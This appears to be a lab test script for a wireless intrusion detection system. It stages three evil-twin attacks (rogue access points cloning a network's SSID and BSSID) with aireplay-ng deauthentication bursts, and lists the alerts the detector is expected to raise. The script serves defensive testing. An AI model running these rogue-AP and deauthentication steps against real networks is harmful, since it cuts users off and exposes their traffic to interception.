#!/bin/bash
# hostapd is the evil twin, with the right password: first with another BSSID on
# another channel and a stronger signal, then with the very same BSSID on another
# channel, as for a man in the middle of several channels, both times with
# deauthentications; then open, with a BSSID of its own, on the same channel.
#: expect 1 APSPOOF transmitter_mac=00:c0:ca:66:00:04 channel=11
#: expect 1 DEAUTHFLOOD transmitter_mac=9c:5c:8e:10:00:01
#: expect 1 BCASTDISCON transmitter_mac=9c:5c:8e:10:00:01
#: expect 2 APSPOOF text~clone
#: expect 2 CHANCHANGE transmitter_mac=9c:5c:8e:10:00:01
#: expect 2 DEAUTHFLOOD transmitter_mac=9c:5c:8e:10:00:01
#: expect 3 APSPOOF transmitter_mac=00:c0:ca:66:00:05
#: allow BCASTDISCON the twin says farewell in the name of the access point when it stops
#: allow DISASSOCTRAFFIC the twin begins with a deauthentication in that name, too
#: allow BEACONRATE two transmitters share a BSSID
#: allow PROBECHAN the twin answers probes on a channel of its own
. /lab/lib.sh
air
watch wlan10:name=attic,channel=6 wlan11:name=cellar,channel=11
network
rssi wlan7 -50
note "ATTACK BEGIN"
ap rogue wlan7 00:c0:ca:66:00:04 11 "$AP1_SSID" wpa2
sleep 5
run timeout 20 aireplay-ng --deauth 2 -a "$AP1_MAC" atk0
sleep 15
stop rogue
note "ATTACK END"
sleep 10
note "ATTACK BEGIN"
ap rogue2 wlan7 "$AP1_MAC" 11 "$AP1_SSID" wpa2
sleep 5
run timeout 20 aireplay-ng --deauth 2 -a "$AP1_MAC" -c "$C1_MAC" atk0
sleep 15
stop rogue2
note "ATTACK END"
sleep 10
note "ATTACK BEGIN"
ap rogue3 wlan7 00:c0:ca:66:00:05 "$CHANNEL" "$AP1_SSID" open
sleep 10
stop rogue3
note "ATTACK END"
done_here
